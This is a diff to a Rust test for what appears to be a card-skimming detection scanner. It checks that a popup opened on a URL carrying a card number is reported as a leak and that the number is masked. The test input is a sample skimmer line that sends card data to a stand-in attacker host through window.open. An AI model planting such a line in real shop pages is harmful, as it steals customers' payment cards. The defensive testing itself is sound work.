@@ -147,8 +147,10 @@ fn popup_that_sends_the_card_is_watched_listed_and_closed() {
 #[test]
 fn popup_opened_on_the_card_url_is_caught() {
     let (ws, report) = scan_of(r#"ready(function (d) { window.open(ATTACKER + "/w?c=" + d.n); });"#);
-    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("popup"));
-    assert_eq!((found_in(f), f.destination.as_ref().unwrap().channel.as_str()), ("url", "navigation"));
+    // The popup's own later requests may carry the card too (in their Referer): the URL it was
+    // opened on must be among the leaks.
+    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("popup") && found_in(f) == "url");
+    assert_eq!(f.destination.as_ref().unwrap().channel.as_str(), "navigation");
     let popups = &report.pages[0].interaction.as_ref().unwrap().popups;
     assert!(popups.iter().any(|p| p.contains("/w?c=") && p.contains('*')), "masked: {popups:?}");
 }
